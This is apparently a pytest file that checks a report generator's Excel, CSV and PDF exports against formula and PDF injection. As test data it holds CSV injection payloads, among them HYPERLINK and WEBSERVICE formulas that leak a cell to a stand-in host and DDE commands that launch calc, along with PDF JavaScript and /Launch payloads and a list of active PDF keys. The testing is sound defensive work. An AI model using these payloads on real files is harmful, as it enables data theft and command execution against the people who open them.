"""
Text that a spreadsheet would run stays text: read back by LibreOffice, which would run it.

What a CSV must mark is in OWASP's ASVS 5.0, 1.2.10; the list adds what hides a formula behind something else.
"""

import csv
import io
from pathlib import Path

import openpyxl
import pikepdf
import pypdf
import pytest
from openpyxl.utils.escape import unescape

from rapor.catalogue import ReportType
from rapor.report import Format
from tests.libreoffice import Cell, cells_of, with_line_feeds
from tests.production import a_type, made, put_rows

INJECTIONS = {
    "formula": "=1+1",
    "link": '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")',
    "web service": '=WEBSERVICE("http://example.invalid/?leak="&A2)',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "after a line end": "harmless\r\n=1+1",
    "after a delimiter": 'harmless,=1+1;=1+1\t=1+1"',
    "quoted": '"=1+1"',
    "nul": "\0=1+1",
    "space": " =1+1",
    "full width": "＝1+1",
    "byte order mark": "\ufeff=1+1",
}
GUARDED = {"formula", "link", "web service", "command", "plus", "minus", "at", "tab", "carriage return", "nul"}
"""Those that CSV marks with an apostrophe, which then shows: a CSV has no other way to say that a cell is text."""


@pytest.fixture(scope="module")
def location(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("injections")
    rows = [(str(number), text) for number, text in enumerate(INJECTIONS.values())]
    put_rows(folder, "injections", {"id": "integer", "payload": "varchar"}, rows)
    return folder


@pytest.fixture(scope="module")
def report_type() -> ReportType:
    return a_type("injections", {"id": ("integer", "id"), "payload": ("text", "payload")}, order_by="id")


def test_an_excel_holds_every_injection_as_text(location: Path, report_type: ReportType) -> None:
    document = made(location, report_type, Format.EXCEL, title="=1+1").document

    book = openpyxl.load_workbook(io.BytesIO(document))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]

    texts = [unescape(str(row[1].value)) for row in book.worksheets[0].iter_rows(min_row=2)]
    assert texts == list(INJECTIONS.values())
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert "=1+1" in [cell.value for cell in cells]  # the title, which the caller chose


def test_libreoffice_takes_every_cell_of_an_excel_for_text(
    location: Path, report_type: ReportType, tmp_path: Path
) -> None:
    document = tmp_path / "injections.xlsx"
    document.write_bytes(made(location, report_type, Format.EXCEL).document)

    payloads = [row[1] for row in cells_of(document)[1:]]

    assert payloads == [Cell("string", in_libreoffice(text), None) for text in INJECTIONS.values()]


def test_a_csv_marks_what_starts_like_a_formula(location: Path, report_type: ReportType) -> None:
    document = made(location, report_type, Format.CSV).document.decode()

    [_, *rows] = csv.reader(io.StringIO(document, newline=""))

    assert [payload for _, payload in rows] == [in_csv(*injection) for injection in INJECTIONS.items()]


def test_libreoffice_takes_every_cell_of_a_csv_for_text(
    location: Path, report_type: ReportType, tmp_path: Path
) -> None:
    document = tmp_path / "injections.csv"
    document.write_bytes(made(location, report_type, Format.CSV).document)

    payloads = [row[1] for row in cells_of(document)[1:]]

    assert payloads == [Cell("string", in_libreoffice(in_csv(*it)), None) for it in INJECTIONS.items()]


def test_libreoffice_would_run_what_nobody_marks(tmp_path: Path) -> None:
    """So that the tests above are of a reader that does run formulas."""
    document = tmp_path / "unmarked.csv"
    with document.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(INJECTIONS.items())

    run = {name.value for name, payload in cells_of(document) if payload.formula}

    assert run == {"formula", "link", "web service", "command", "nul"}


PDF_INJECTIONS = [
    ") Tj ET", "\\) Tj (", "(unbalanced ((", "\\", "endstream endobj", "%%EOF", "xref 0 1 trailer <</Root 1 0 R>>",
    "/JS (app.alert(1))", "<</S /JavaScript /JS (app.alert(1))>>", "/OpenAction 1 0 R", "/URI (http://example.invalid)",
    "http://example.invalid/", "<</Type /EmbeddedFile>>", "/Launch (calc.exe)", "<script>alert(1)</script>", "${7*7} {{7*7}}",
]  # fmt: skip
ACTIVE = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/A", "/URI", "/Launch", "/EmbeddedFile", "/EmbeddedFiles", "/Names",
          "/Annots", "/AcroForm", "/XFA", "/RichMedia", "/GoToR", "/SubmitForm", "/Encrypt"}  # fmt: skip


def test_a_pdf_shows_what_would_be_its_own_commands(tmp_path: Path) -> None:
    put_rows(
        tmp_path,
        "commands",
        {"id": "integer", "payload": "varchar"},
        [(str(n), it) for n, it in enumerate(PDF_INJECTIONS)],
    )
    of = a_type("commands", {"id": ("integer", "id"), "payload": ("text", "payload")}, order_by="id")

    document = made(tmp_path, of, Format.PDF, title=") Tj ET endstream <</JS (x)>>").document

    text = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(document)).pages)
    assert [it for it in [*PDF_INJECTIONS, ") Tj ET endstream <</JS (x)>>"] if it not in text] == []
    with pikepdf.open(io.BytesIO(document)) as pdf:
        names = {name for it in pdf.objects if isinstance(it, pikepdf.Dictionary | pikepdf.Stream) for name in it}
    assert names & ACTIVE == set()


def in_csv(name: str, text: str) -> str:
    return f"'{text}" if name in GUARDED else text


def in_libreoffice(text: str) -> str:
    """XML, which it is asked to write, has no NUL."""
    return with_line_feeds(text).replace("\0", "")
